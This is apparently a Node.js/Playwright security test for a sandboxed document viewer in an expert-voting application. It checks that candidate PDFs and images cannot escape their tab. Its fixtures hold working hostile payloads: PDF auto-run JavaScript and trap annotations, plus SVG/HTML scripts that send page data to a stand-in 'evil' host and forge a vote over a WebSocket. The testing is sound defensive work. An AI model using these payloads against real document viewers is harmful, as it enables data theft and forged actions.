// SPDX-License-Identifier: Apache-2.0
/**
 * Rule: a candidate's file opens in a tab that can do nothing else, whatever is in the file and wherever its reader
 * clicks; every page of it can be read; and what is not the manifest's is not shown.
 * Harm: a dossier with a program in it votes in its reader's name, or tells somebody outside what is read in the hall;
 * a reader who clicks is taken to a page that its author has made; or one expert reads another dossier than the rest.
 */
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { createServer } from 'node:http';
import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { faultsOf, launch, openWindow, shoot } from './lib.mjs';
import { Small } from './small.mjs';

const kExpert = 2;
const kPages = 300;
const kPng = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8DwHwAFBQIAX8jx0gAAAABJRU5E'
  + 'rkJggg==', 'base64');
let folder;
let outside;
let small;
let browser;
let page;
/** Whatever asked for anything at an address that is not ours. */
const reached = [];
/** Sockets that any tab has opened. */
const sockets = [];

/** A PDF of these objects, numbered from 1; the first is its catalog. */
function pdfOf(objects) {
  let out = '%PDF-1.7\n';
  const at = objects.map((one, i) => {
    const from = out.length;
    out += `${i + 1} 0 obj\n${one}\nendobj\n`;
    return from;
  });
  const table = at.map((from) => `${String(from).padStart(10, '0')} 00000 n \n`).join('');
  return Buffer.from(`${out}xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${table}trailer
<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${out.length}\n%%EOF`, 'latin1');
}

const kFont = '/Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >>';
const shown = (text) => {
  const code = `BT /F1 24 Tf 60 200 Td (${text}) Tj ET`;
  return `<< /Length ${code.length} >>\nstream\n${code}\nendstream`;
};
const plainPdf = () => pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
  `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 400 300] /Contents 4 0 R ${kFont} >>`, shown('A PAPER')]);

const stream = (head, bytes) => `<< ${head} /Length ${bytes.length} >>\nstream\n${bytes}\nendstream`;

/** 姓名 and 中国 in fonts that are not in the file: in the two encodings of most Chinese software. */
const chinesePdf = () => {
  const page = (contents) => `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents ${contents} 0 R
    /Resources << /Font << /F1 5 0 R /F2 6 0 R >> >> >>`;
  const font = (name, encoding) => `<< /Type /Font /Subtype /Type0 /BaseFont /${name} /Encoding /${encoding}
    /DescendantFonts [<< /Type /Font /Subtype /CIDFontType0 /BaseFont /${name} /DW 1000 /FontDescriptor
    << /Type /FontDescriptor /FontName /${name} /Flags 6 /Ascent 880 /Descent -120 /CapHeight 880 /ItalicAngle 0
    /StemV 93 /FontBBox [0 -120 1000 880] >> /CIDSystemInfo << /Registry (Adobe) /Ordering (GB1) /Supplement 2 >> >>] >>`;
  return pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [3 0 R 4 0 R] /Count 2 >>',
    page(7), page(8), font('STSong-Light', 'UniGB-UCS2-H'), font('SimSun', 'GBK-EUC-H'),
    stream('', 'BT /F1 96 Tf 100 600 Td <59D3540D> Tj ET'), stream('', 'BT /F2 96 Tf 100 600 Td <D6D0B9FA> Tj ET')]);
};

/** Opens with a password only: what the empty one is compared with is of another. */
const lockedPdf = () => Buffer.from(plainPdf().toString('latin1').replace('/Root 1 0 R', `/Root 1 0 R
  /ID [<00> <00>] /Encrypt << /Filter /Standard /V 1 /R 2 /P -4 /O <${'5a'.repeat(32)}> /U <${'a5'.repeat(32)}> >>`),
'latin1');

/** As many pages as nobody reads, each with a picture of its own, 18 MB together; the page's number on it. */
function longPdf(pages) {
  const objects = ['<< /Type /Catalog /Pages 2 0 R >>', `<< /Type /Pages /Kids [${
    Array.from({ length: pages }, (_, i) => `${3 + i * 3} 0 R`).join(' ')}] /Count ${pages} >>`];
  for (let i = 0; i < pages; i += 1) {
    objects.push(`<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 ${i % 7 ? 842 : 420}] /Contents ${4 + i * 3} 0 R
      /Resources << /XObject << /I ${5 + i * 3} 0 R >> /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica
      >> >> >> >>`, stream('', `q 400 0 0 200 90 90 cm /I Do Q BT /F1 60 Tf 90 320 Td (PAGE ${i + 1}) Tj ET`),
    stream('/Type /XObject /Subtype /Image /Width 300 /Height 200 /ColorSpace /DeviceGray /BitsPerComponent 8',
      String.fromCharCode(i % 256).repeat(60_000)));
  }
  return pdfOf(objects);
}

/** A scan as many programs make it: the page is a picture in JPEG 2000, a black square on white. */
const kJpeg2000 = ''
  + 'AAAADGpQICANCocKAAAAFGZ0eXBqcDIgAAAAAGpwMiAAAAAtanAyaAAAABZpaGRyAAAAEAAAABAAAQcHAAAAAAAPY29scgEAAAAAABEA'
  + 'AAD2anAyY/9P/1EAKQAAAAAAEAAAABAAAAAAAAAAAAAAABAAAAAQAAAAAAAAAAAAAQcBAf9SAAwAAAABAAAEBAAB/1wABEBA/2QAJQABQ3Jl'
  + 'YXRlZCBieSBPcGVuSlBFRyB2ZXJzaW9uIDIuNS4w/5AACgAAAAAAhAAB/5Pfg5h4mQzGQqrjnrLsFM3b/K5N1gHkMAADCQly/x4gAAMJCUgT'
  + 'AGEeYpxH3KaI+5TRIS+MHAAAGEc4/w/RThH3KaJCXxg4AAAwjnH+P0U4R9ymiQl8YOAAAMI5x/j9FOEfcpokJfGDgAADCOcf4/RThH3KaJCX'
  + '/9k=';
/** Two of them, the second broken; on the first a field of a form that is filled in, in blue. */
const scannedPdf = () => {
  const page = (image, annotations) => `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 400 300] /Contents 5 0 R
    /Resources << /XObject << /I ${image} 0 R >> >> ${annotations} >>`;
  const image = (bytes) => stream(`/Type /XObject /Subtype /Image /Width 16 /Height 16 /ColorSpace /DeviceGray
    /BitsPerComponent 8 /Filter /JPXDecode`, bytes);
  return pdfOf(['<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [8 0 R] >> >>',
    '<< /Type /Pages /Kids [3 0 R 4 0 R] /Count 2 >>', page(6, '/Annots [8 0 R]'), page(7, ''),
    stream('', 'q 300 0 0 300 0 0 cm /I Do Q'), image(Buffer.from(kJpeg2000, 'base64').toString('latin1')),
    image('no picture'), `<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /V (filled in) /F 4
    /Rect [310 10 390 90] /P 3 0 R /AP << /N 9 0 R >> >>`,
    stream('/Type /XObject /Subtype /Form /BBox [0 0 80 80]', '0 0 1 rg 0 0 80 80 re f')]);
};

/** A PDF that does what PDFs can do by themselves, as soon as it is opened. */
function hostilePdf(evil, door) {
  const script = [`app.launchURL("${evil}/launch", true)`,
    `this.submitForm({ cURL: "${evil}/submit", cSubmitAs: "HTML" })`, `this.submitForm("${door}")`,
    `this.getURL("${evil}/get")`, `app.openDoc("${evil}/doc")`,
    `Net.HTTP.request({ cVerb: "GET", cURL: "${evil}/net" })`].map((one) => `try { ${one} } catch (e) {}`).join(' ');
  return pdfOf([
    '<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /AA << /WC 6 0 R >> /AcroForm << /Fields [7 0 R] >> >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 400 300] /Contents 4 0 R /Annots [7 0 R] /AA << /O 6 0 R >>
      ${kFont} >>`,
    shown('HOSTILE'),
    `<< /S /JavaScript /JS (${script.replace(/[()\\]/g, (one) => `\\${one}`)})
      /Next [<< /S /URI /URI (${evil}/uri) >> << /S /Launch /F (${evil}/file) >>
        << /S /GoToR /F (${evil}/remote) >>] >>`,
    `<< /S /SubmitForm /F << /FS /URL /F (${evil}/page) >> /Flags 4 >>`,
    `<< /Type /Annot /Subtype /Widget /FT /Tx /T (field) /Rect [0 0 100 20] /AA << /Fo 6 0 R /PO 6 0 R >> >>`,
  ]);
}

/**
 * A PDF that leads outside whoever touches it: each page is one annotation from edge to edge, a link, a button that
 * sends a form, a program to start, a script, a file inside the file, a field to type in. An outline leads there, too.
 */
function trapPdf(evil) {
  const edge = '/Type /Annot /Rect [0 0 400 300] /Border [0 0 4] /F 4 /P';
  const button = '/Subtype /Widget /FT /Btn /Ff 65536';
  const traps = [`/Subtype /Link /A << /S /URI /URI (${evil}/link) >>`,
    `${button} /T (send) /A << /S /SubmitForm /F << /FS /URL /F (${evil}/form) >> /Flags 4 >>`,
    `/Subtype /Link /A << /S /Launch /F << /Type /Filespec /FS /URL /F (${evil}/launched) >> >>`,
    `${button} /T (script) /A << /S /JavaScript /JS (app.launchURL\\("${evil}/scripted", true\\)) >>`,
    `/Subtype /FileAttachment /FS ${kTrapFile} 0 R /Name /PushPin /Contents (${evil}/attached)`,
    `/Subtype /Widget /FT /Tx /T (name) /V (typed) /AA << /K << /S /URI /URI (${evil}/typed) >> >>`];
  const page = (i) => 4 + i * 3;
  const out = [`<< /Type /Catalog /Pages 2 0 R /Outlines 3 0 R /AcroForm << /Fields [${
    [1, 3, 5].map((i) => `${page(i) + 2} 0 R`).join(' ')}] >> >>`,
  `<< /Type /Pages /Kids [${traps.map((one, i) => `${page(i)} 0 R`).join(' ')}] /Count ${traps.length} >>`,
  `<< /Title (${evil}/outline) /A << /S /URI /URI (${evil}/outline) >> >>`];
  traps.forEach((one, i) => out.push(`<< /Type /Page /Parent 2 0 R /MediaBox [0 0 400 300] /Contents ${page(i) + 1} 0 R
    /Annots [${page(i) + 2} 0 R] ${kFont} >>`, shown(`${evil}/text`), `<< ${edge} ${page(i)} 0 R ${one} >>`));
  out.push(`<< /Type /Filespec /F (inside.html) /EF << /F ${kTrapFile + 1} 0 R >> >>`,
    '<< /Type /EmbeddedFile /Subtype /text#2Fhtml /Length 9 >>\nstream\n<p>in</p>\nendstream');
  return pdfOf(out);
}
const kTraps = 6;
const kTrapFile = 4 + kTraps * 3;

const hostileScript = (evil) => `
  fetch('../../index.html').then((r) => r.text()).then((t) => fetch('${evil}/stolen?' + t.length));
  fetch('${evil}/fetch'); new Image().src = '${evil}/image'; navigator.sendBeacon('${evil}/beacon');
  const socket = new WebSocket(location.href.replace(/^http/, 'ws').replace(/files.*/, 'door'));
  socket.onopen = () => socket.send('@x vote 1 agree');
  try { opener.location = '${evil}/opener'; } catch (e) {}
  try { top.location = '${evil}/top'; } catch (e) {}`;

const hostileSvg = (evil) => Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg"
  xmlns:xlink="http://www.w3.org/1999/xlink" width="300" height="200" onload="fetch('${evil}/onload')"><rect width="300" height="200" fill="red"/>
  <image xlink:href="${evil}/picture" width="10" height="10"/><style>@import url(${evil}/style);</style>
  <foreignObject width="300" height="200"><body xmlns="http://www.w3.org/1999/xhtml">
  <form action="${evil}/form" method="post"><input name="a" value="b"/></form><iframe src="${evil}/frame"/></body>
  </foreignObject><script><![CDATA[${hostileScript(evil)}]]></script></svg>`);

const hostileHtml = (evil) => `<html><script>${hostileScript(evil)}</script><body onload="fetch('${evil}/body')">`
  + `<img src="${evil}/img"><meta http-equiv="refresh" content="0;url=${evil}/refresh">`;

function put(path, bytes) {
  mkdirSync(join(folder, path, '..'), { recursive: true });
  writeFileSync(join(folder, path), bytes);
}

/** Clicks a file's name on the page. @returns the tab, when nothing happens in it any more */
async function openFile(question, index) {
  const link = page.locator(`.attachments a[href="files/${question}/${index}"]`);
  const [tab] = await Promise.all([page.context().waitForEvent('page'), link.click()]);
  tab.setDefaultTimeout(30_000);
  tab.complaints = [];
  tab.on('pageerror', (error) => tab.complaints.push(String(error)));
  tab.on('console', (message) => {
    if (message.type() === 'error') tab.complaints.push(message.text());
  });
  await tab.waitForLoadState();
  return tab;
}

/** The answer to the tab's own address, once the file is there. */
async function answerOf(tab) {
  for (let i = 0; i < 100; i += 1) {
    const answer = await page.context().request.get(tab.url());
    const type = answer.headers()['content-type'];
    if (!type.startsWith('text/html')) return answer;
    await page.waitForTimeout(300);
  }
  throw new Error('the file never came');
}

before(async () => {
  folder = mkdtempSync(join(tmpdir(), 'piaojue-materials-'));
  outside = createServer((request, response) => {
    reached.push(`${request.method} ${request.url}`);
    response.end('outside');
  });
  await new Promise((done) => outside.listen(0, '127.0.0.1', done));
  const evil = `http://127.0.0.1:${outside.address().port}`;
  put('1/1-论文.pdf', plainPdf());
  put('1/2-证书.png', kPng);
  put('2/1-hostile.pdf', hostilePdf(evil, `${evil}/door`));
  put('2/2-picture.png', Buffer.concat([kPng.subarray(0, 8), hostileSvg(evil)]));
  put('2/3-page.pdf', Buffer.from(`%PDF-${hostileHtml(evil)}`));
  put('2/4-page.jpg', Buffer.concat([Buffer.from([0xff, 0xd8, 0xff]), Buffer.from(hostileHtml(evil))]));
  put('2/5-trap.pdf', trapPdf(evil));
  put('2/6-broken.pdf', Buffer.from('%PDF-1.7\nnothing of a PDF follows\n%%EOF'));
  put('3/2-中文.pdf', chinesePdf());
  put('3/3-locked.pdf', lockedPdf());
  put('3/4-long.pdf', longPdf(kPages));
  put('3/5-scan.pdf', scannedPdf());
  put('3/1-exchanged.pdf', Buffer.from('%PDF-1.7 what the office gave'));
  small = await Small.make(3, { materials: folder });
  await small.start([1, kExpert, 3, 4, 5, 6, 7, 8, 9]);
  await small.openMeeting();
  browser = await launch();
  page = await openWindow(browser);
  page.context().on('page', (tab) => tab.on('websocket', (socket) => sockets.push(socket.url())));
  await page.goto(small.urls.get(kExpert));
  await page.waitForSelector('main h1');
}, { timeout: 240_000 });

after(async () => {
  await browser?.close();
  outside?.close();
  await small?.stop();
  if (folder) rmSync(folder, { recursive: true, force: true });
}, { timeout: 60_000 });

/** Draws what is near the window, and has done so: a page that nothing asks of. */
async function drawn(tab) {
  await tab.locator('.sheet canvas').first().waitFor();
  await tab.waitForTimeout(600);
}

/** Of the drawing of a page: how much of it is ink, and how much of that is neither black nor grey. */
const inkOf = (tab, n) => tab.locator('.sheet').nth(n - 1).locator('canvas').evaluate((canvas) => {
  const { data } = canvas.getContext('2d').getImageData(0, 0, canvas.width, canvas.height);
  let ink = 0;
  let coloured = 0;
  for (let i = 0; i < data.length; i += 4) {
    if (data[i] + data[i + 1] + data[i + 2] < 600) ink += 1;
    if (Math.abs(data[i] - data[i + 2]) > 60) coloured += 1;
  }
  return { ink: ink / (data.length / 4), coloured: coloured / (data.length / 4) };
});

/** What a file has tried has had its time; then nothing of it has come anywhere. */
async function reachedNothing(tab, what) {
  const address = tab.url();
  await tab.waitForTimeout(2500);
  assert.deepEqual(reached, [], `${what}: another origin`);
  assert.deepEqual(sockets, [], `${what}: the door`);
  assert.equal(tab.url(), address, `${what}: its tab went elsewhere`);
  // The page has its door still, which a second socket would have taken over.
  assert.equal((await small.ask(kExpert, 'status')).ok, true);
  assert.equal(await page.locator('main h1').count() > 0, true, what);
}

test('while one waits the page names the files of each candidate, with their sizes', async () => {
  const links = page.locator('.room-candidates > li').first().locator('.attachments li');
  await links.first().waitFor();
  assert.deepEqual((await links.allInnerTexts()).map((one) => one.trim().split(/\s+/)[0]),
    ['1-论文.pdf', '2-证书.png']);
  assert.match(await links.first().innerText(), /1 千字节/);
  const faults = await faultsOf(page, 'materials-page');
  assert.deepEqual(faults.filter((one) => !/\.(pdf|png|jpg)$/.test(one)), []);
});

test('a PDF is drawn, and its bytes are given to what draws it alone', async () => {
  const tab = await openFile(1, 0);
  await drawn(tab);
  assert.equal(await tab.title(), '1-论文.pdf');
  assert.ok((await inkOf(tab, 1)).ink > 0.003);
  assert.match(await tab.locator('.letters').innerText(), /A PAPER/);
  await tab.getByRole('img', { name: '第 1 页，共 1 页' }).waitFor();
  assert.deepEqual((await faultsOf(tab, 'material-pdf', { fullPage: false })).filter((one) => !/\.pdf$/.test(one)), []);
  const address = tab.url();
  const policy = (await page.context().request.get(address)).headers()['content-security-policy'];
  const here = address.replace(/files.*/, '');
  assert.equal(policy, `sandbox allow-scripts allow-same-origin; default-src 'none'; script-src ${here}reader/; `
    + `worker-src ${here}reader/pdf/worker.js; style-src ${here}reader/reader.css; img-src data:; `
    + `connect-src ${address}/bytes ${here}reader/pdf/; form-action 'none'; base-uri 'none'; frame-ancestors 'none'`);
  // What takes a file apart has no address at all within reach.
  assert.match((await page.context().request.get(`${here}reader/pdf/worker.js`)).headers()['content-security-policy'],
    /^default-src 'none'; script-src 'wasm-unsafe-eval';/);
  assert.equal(await tab.evaluate((door) => new Promise((done) => {
    try {
      const socket = new WebSocket(door);
      socket.onopen = () => done('open');
      socket.onerror = () => done('refused');
    } catch { done('refused'); }
  }), `${here.replace('http', 'ws')}door`), 'refused');
  const [worker] = tab.workers();
  for (const other of ['index.html', 'files/1/1', 'files/2/0/bytes']) {
    const got = (url) => fetch(url, { mode: 'same-origin' }).then(() => 'given', () => 'refused');
    assert.equal(await tab.evaluate(got, here + other), 'refused');
    assert.equal(await worker.evaluate(got, here + other), 'refused');
  }
  assert.equal(await worker.evaluate((url) => fetch(url).then(() => 'given', () => 'refused'), `${address}/bytes`),
    'refused');
  await tab.close();
});

test('no address shows a PDF in the viewer of the browser', async () => {
  const tab = await openFile(1, 0);
  await drawn(tab);
  const bytes = `${tab.url()}/bytes`;
  const fetched = (dest, mode, site) => page.context().request.get(bytes,
    { headers: { 'Sec-Fetch-Dest': dest, 'Sec-Fetch-Mode': mode, 'Sec-Fetch-Site': site } });
  const answer = await fetched('empty', 'same-origin', 'same-origin');
  const headers = answer.headers();
  assert.deepEqual(await answer.body(), plainPdf());
  assert.equal(headers['content-type'], 'application/octet-stream');
  assert.equal(headers['x-content-type-options'], 'nosniff');
  assert.match(headers['content-security-policy'], /^sandbox; default-src 'none';/);
  assert.equal(headers['content-disposition'], `attachment; filename*=UTF-8''1-${encodeURIComponent('论文')}.pdf`);
  assert.equal(headers['cache-control'], 'no-store');
  for (const how of [['document', 'navigate', 'none'], ['iframe', 'navigate', 'same-origin'],
    ['embed', 'no-cors', 'same-origin'], ['empty', 'cors', 'cross-site'], ['empty', 'same-origin', 'none']]) {
    assert.equal((await fetched(...how)).status(), 403, how.join(' '));
  }
  assert.equal((await page.context().request.get(bytes)).status(), 403);
  // As somebody types it.
  const answered = await tab.goto(bytes).catch((error) => error);
  assert.ok(answered instanceof Error || answered.status() === 403);
  await tab.close();
});

test('a picture opens as it is, under its own name, in an origin of its own', async () => {
  const picture = await openFile(1, 1);
  const headers = (await answerOf(picture)).headers();
  assert.equal(headers['content-type'], 'image/png');
  assert.equal(headers['content-disposition'], `inline; filename*=UTF-8''2-${encodeURIComponent('证书')}.png`);
  assert.match(headers['content-security-policy'], /^sandbox; default-src 'none';/);
  await picture.waitForTimeout(1500);
  assert.deepEqual(await picture.evaluate(() => [document.images.length, document.images[0]?.naturalWidth, origin]),
    [1, 1, 'null'], 'a picture, in an origin of its own');
  assert.equal((await page.context().request.get(`${picture.url()}/bytes`)).headers()['content-type'],
    'text/html; charset=utf-8');
  await picture.close();
});

test('a hostile PDF reaches neither the door nor another origin', async () => {
  const tab = await openFile(2, 0);
  await drawn(tab);
  await shoot(tab, 'material-hostile-pdf', false);
  await reachedNothing(tab, 'a PDF with actions');
  await tab.close();
});

test('whoever clicks or types in a hostile PDF stays where he is', async () => {
  const tab = await openFile(2, 4);
  await drawn(tab);
  await shoot(tab, 'material-trap-pdf', false);
  const tabs = page.context().pages().length;
  const address = tab.url();
  const downloads = [];
  tab.on('download', (one) => downloads.push(one.url()));
  const stays = async (what) => {
    await tab.waitForTimeout(250);
    assert.deepEqual([reached, page.context().pages().length, tab.url(), downloads], [[], tabs, address, []], what);
  };
  assert.equal(await tab.locator('.sheet').count(), kTraps);
  for (let n = 0; n < kTraps; n += 1) {
    const sheet = tab.locator('.sheet').nth(n);
    await sheet.scrollIntoViewIfNeeded();
    await sheet.locator('canvas').waitFor();
    const letters = sheet.locator('.letters span').first();
    await letters.waitFor();
    for (const [what, options] of [['click', {}], ['ctrl-click', { modifiers: ['Control'] }],
      ['shift-click', { modifiers: ['Shift'] }], ['middle click', { button: 'middle' }],
      ['double click', { clickCount: 2 }]]) {
      await sheet.click(options);
      await letters.click(options);
      await stays(`page ${n + 1}: ${what}`);
    }
    await tab.keyboard.type('typed');
    await tab.keyboard.press('Enter');
    await stays(`page ${n + 1}: typing`);
  }
  // Nothing but the reader's own bar can be reached with the keyboard.
  const focused = new Set();
  for (let i = 0; i < 12; i += 1) {
    await tab.keyboard.press('Tab');
    focused.add(await tab.evaluate(() => (document.activeElement.closest('.tools') ? 'bar'
      : document.activeElement.tagName)));
    if (await tab.evaluate(() => document.activeElement.tagName !== 'BUTTON')) await tab.keyboard.press('Enter');
  }
  assert.deepEqual([...focused].filter((one) => !['bar', 'BODY', 'HTML'].includes(one)), []);
  assert.equal(await tab.locator('a, form, iframe, embed, object, .sheet input, .sheet button').count(), 0);
  await stays('keyboard');
  await reachedNothing(tab, 'a PDF of traps');
  await tab.close();
});

test('Chinese text whose fonts are not in the file is drawn', async () => {
  const tab = await openFile(3, 1);
  await drawn(tab);
  await shoot(tab, 'material-chinese-1', false);
  await tab.keyboard.press('End');
  await tab.locator('.sheet').nth(1).locator('canvas').waitFor();
  await shoot(tab, 'material-chinese');
  assert.deepEqual(tab.complaints, []);
  for (const [n, text] of [[1, '姓名'], [2, '中国']]) {
    await tab.locator('.sheet').nth(n - 1).scrollIntoViewIfNeeded();
    await tab.waitForTimeout(500);
    assert.equal(await tab.locator('.sheet').nth(n - 1).locator('.letters').innerText(), text);
    assert.ok((await inkOf(tab, n)).ink > 0.004, text);
  }
  await tab.close();
});

test('a scan and a filled-in form are seen, and a picture that is not is named', async () => {
  const tab = await openFile(3, 4);
  await drawn(tab);
  const { ink, coloured } = await inkOf(tab, 1);
  assert.ok(ink > 0.15 && coloured > 0.04, `${ink} ${coloured}`);
  await tab.keyboard.press('End');
  await tab.getByText('第 2 页有图片无法显示').waitFor();
  await tab.waitForTimeout(1500);
  await shoot(tab, 'material-scan', false);
  await tab.close();
});

test('a broken PDF, and one with a password, are named as such', async () => {
  for (const [question, index, zh, en] of [[2, 5, /已损坏/, /broken/], [3, 2, /密码/, /password/]]) {
    const tab = await openFile(question, index);
    await tab.getByText(zh).waitFor();
    assert.deepEqual((await faultsOf(tab, `material-refused-${index}`)).filter((one) => !/\.pdf$/.test(one)), []);
    await tab.goto(`${tab.url()}?lang=en`);
    await tab.getByText(en).waitFor();
    await tab.close();
  }
});

test('a browser that is too old for what draws PDFs says so', async () => {
  // A module with what it does not know is none to it.
  const modules = /\/reader\/pdf\/pdf\.js$/;
  await page.context().route(modules, (route) => route.fulfill({ contentType: 'text/javascript',
    body: 'class { # }' }));
  const tab = await openFile(1, 0);
  await tab.getByText('浏览器过旧').waitFor();
  await shoot(tab, 'material-old-browser', false);
  await tab.close();
  await page.context().unroute(modules);
});

/** What is drawn at this moment: how many pages, how many pixels. */
const heldBy = (tab) => tab.evaluate(() => [...document.querySelectorAll('.sheet canvas')].reduce(
  ({ pages, pixels }, one) => ({ pages: pages + 1, pixels: pixels + one.width * one.height }),
  { pages: 0, pixels: 0 }));

test('a file of 300 pages and 18 MB is read from end to end in a bounded memory', async () => {
  const tab = await openFile(3, 3);
  await tab.locator('.sheet canvas').first().waitFor({ timeout: 120_000 });
  // Every page has its size once the last one has.
  await tab.waitForFunction((n) => document.querySelectorAll('.sheet')[n - 1].offsetHeight > 1000, kPages);
  await tab.getByText(`/ ${kPages} 页`).waitFor();
  const number = tab.getByLabel('页码', { exact: true });
  await tab.keyboard.press('End');
  await tab.waitForFunction((n) => document.querySelectorAll('.sheet')[n - 1].querySelector('canvas'), kPages);
  assert.equal(await number.inputValue(), String(kPages));
  await number.fill('150');
  await number.press('Enter');
  await tab.waitForFunction(() => document.querySelectorAll('.sheet')[149].innerText.includes('PAGE 150'));
  assert.equal(await number.inputValue(), '150');
  await number.blur();
  await tab.keyboard.press('PageDown');
  for (const [key, percent] of [['+', 175], ['-', 150], ['-', 125]]) {
    await tab.keyboard.press(key);
    await tab.getByText(`${percent}%`).waitFor();
  }
  assert.match(await number.inputValue(), /^15[01]$/);
  await tab.keyboard.press('0');
  for (let i = 0; i < 40; i += 1) {
    await tab.mouse.wheel(0, 3000);
    await tab.waitForTimeout(60);
    const { pages, pixels } = await heldBy(tab);
    assert.ok(pages <= 8 && pixels <= 48e6, `${pages} pages, ${pixels} pixels`);
  }
  await tab.waitForTimeout(1000);
  assert.ok((await heldBy(tab)).pages >= 1);
  await shoot(tab, 'material-long', false);
  assert.deepEqual(tab.complaints, []);
  for (let i = 0; i < 20; i += 1) await tab.keyboard.press('-');
  await tab.waitForTimeout(4000);
  await shoot(tab, 'material-long-small', false);
  const { pages, pixels } = await heldBy(tab);
  assert.ok(pages >= 5 && pages <= 60 && pixels <= 48e6, `${pages} pages, ${pixels} pixels`);
  await tab.close();
});

test('what only begins as a picture or a PDF is a broken one, and runs nothing', async () => {
  for (const [index, type] of [[1, 'image/png'], [2, null], [3, 'image/jpeg']]) {
    const tab = await openFile(2, index);
    if (type) assert.equal((await answerOf(tab)).headers()['content-type'], type);
    else await tab.getByText('已损坏').waitFor();
    await tab.waitForTimeout(1200);
    await reachedNothing(tab, `file ${index}`);
    await tab.close();
  }
});

test('the policy would hold an SVG and an HTML page, too', async () => {
  const evil = `http://127.0.0.1:${outside.address().port}`;
  const tab = await openFile(1, 1);
  const headers = (await answerOf(tab)).headers();
  const address = tab.url();
  await tab.close();
  for (const [type, body] of [['image/svg+xml', hostileSvg(evil)], ['text/html', Buffer.from(hostileHtml(evil))]]) {
    await page.context().route(address, (route) => route.fulfill({ status: 200, headers: { ...headers,
      'content-type': type, 'content-length': String(body.length) }, body }));
    const again = await openFile(1, 1);
    await reachedNothing(again, type);
    assert.equal(await again.evaluate(() => origin), 'null');
    await again.close();
    await page.context().unroute(address);
  }
});

test('without the cookie there is no file, and no other way to one', async () => {
  const tab = await openFile(1, 0);
  const address = tab.url();
  await tab.close();
  assert.equal((await fetch(address)).status, 403);
  assert.equal((await fetch(`${address}/bytes`)).status, 403);
  assert.equal((await fetch(address.replace(/\/files.*/, '/files/../files/1/0'))).status, 403);
});

test('a file that somebody has exchanged on the server is refused in words', async () => {
  const hash = createHash('sha256').update('%PDF-1.7 what the office gave').digest('hex');
  const at = join(small.meeting.serverDirectory, 'materials', hash);
  assert.ok(readdirSync(join(small.meeting.serverDirectory, 'materials')).includes(hash));
  writeFileSync(at, '%PDF-1.7 what others gave it '.padEnd('%PDF-1.7 what the office gave'.length));
  const tab = await openFile(3, 0);
  await tab.waitForFunction(() => document.body.innerText.includes('没有显示'));
  assert.match(await tab.innerText('main'), /1-exchanged\.pdf/);
  assert.match(await tab.innerText('[lang=en]'), /neither shown nor kept/);
  tab.complaints = [];
  assert.deepEqual((await faultsOf(tab, 'material-refused')).filter((one) => !/exchanged\.pdf/.test(one)), []);
  // Put back, and loaded again: it is there.
  writeFileSync(at, '%PDF-1.7 what the office gave');
  await tab.reload();
  await tab.getByText('已损坏').waitFor();
  await tab.close();
});
